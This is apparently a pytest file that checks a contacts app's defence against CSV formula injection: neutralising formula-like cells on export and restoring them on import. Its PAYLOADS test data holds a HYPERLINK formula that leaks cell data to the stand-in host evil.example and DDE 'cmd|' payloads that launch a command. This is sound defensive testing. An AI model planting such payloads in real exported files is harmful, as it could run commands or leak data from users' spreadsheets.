"""CSV injection: exported cells that a spreadsheet would run as formulas start with a
``'``; an import removes it again, so an export round-trips without a quote piling up."""

from __future__ import annotations

import csv
import io

import pytest

from rapport.core.imports.formulas import TRIGGERS, neutralise, restore
from tests.conftest import sign_up
from tests.core.imports.support import EXPORT, contacts, post_csv

CONTACTS = "/api/v1/contacts"
PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?"&A2,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-5", "'-5"),  # text column: a number-looking text is still text
        ("'=1", "''=1"),  # already quoted by someone: one more, so the import gives it back
        ("Olena", "Olena"),
        ("it's =fine", "it's =fine"),
        ("", ""),
    ],
)
def test_cells_are_neutralised_and_restored(value, written):
    assert neutralise(value) == written
    assert restore(written) == value


def test_plain_numbers_in_numeric_columns_stay_numbers():
    assert neutralise("-5", numeric=True) == "-5"
    assert neutralise("-12.50", numeric=True) == "-12.50"
    assert neutralise("-1+cmd|' /C calc'!A0", numeric=True).startswith("'")


def _setup_fields(client, t):
    for key, kind in (("notes", "long_text"), ("balance", "integer")):
        r = client.post("/api/v1/fields", json={"key": key, "entity": "contact", "type": kind,
                                                "label": key}, headers=t.headers)
        assert r.status_code == 201, r.text


def _export_rows(client, t) -> list[dict[str, str]]:
    r = client.get(EXPORT, params={"sort": "external_id"}, headers=t.headers)
    assert r.status_code == 200, r.text
    return list(csv.DictReader(io.StringIO(r.text, newline="")))


def test_formula_cells_export_neutralised_and_reimport_unchanged(client, tenant):
    _setup_fields(client, tenant)
    for number, (trigger, payload) in enumerate(PAYLOADS.items()):
        r = client.post(CONTACTS, params={"allow_duplicate": "true"}, headers=tenant.headers,
                        json={"external_id": f"x-{number}", "given_name": f"{trigger}Olena",
                              "source": "-5", "email": f"o{number}@example.com",
                              "fields": {"custom.notes": payload, "custom.balance": -5}})
        assert r.status_code == 201, r.text
    stored = {c["external_id"]: c for c in contacts(client, tenant)}
    rows = _export_rows(client, tenant)
    assert len(rows) == len(PAYLOADS)
    for row in rows:
        contact = stored[row["external_id"]]
        # The API trims the TAB/CR payloads to "=1+1": still a formula, still quoted.
        notes = contact["fields"]["custom.notes"]
        assert notes.startswith(TRIGGERS)
        assert row["fields.custom.notes"] == "'" + notes
        assert row["source"] == "'-5"  # text, quoted as OWASP advises
        assert row["fields.custom.balance"] == "-5"  # a number in a numeric column
        assert row["given_name"] == neutralise(contact["given_name"])
    text_cells = [c for row in rows for k, c in row.items() if k != "fields.custom.balance"]
    assert not [c for c in text_cells if c.startswith(TRIGGERS)]

    before = stored
    exported = client.get(EXPORT, params={"sort": "external_id"}, headers=tenant.headers).text
    other = sign_up(client)
    _setup_fields(client, other)
    r = post_csv(client, other, exported)
    assert r.status_code == 201, r.text
    copied = {c["external_id"]: c for c in contacts(client, other)}
    for key, contact in before.items():
        # The stored values, not their quoted cells: no quote was added on the way back.
        assert copied[key]["given_name"] == contact["given_name"]
        assert copied[key]["source"] == "-5"
        assert copied[key]["fields"] == contact["fields"]
    # And a second trip writes the very same file: quotes do not pile up.
    again = client.get(EXPORT, params={"sort": "external_id"}, headers=other.headers).text
    assert again == exported
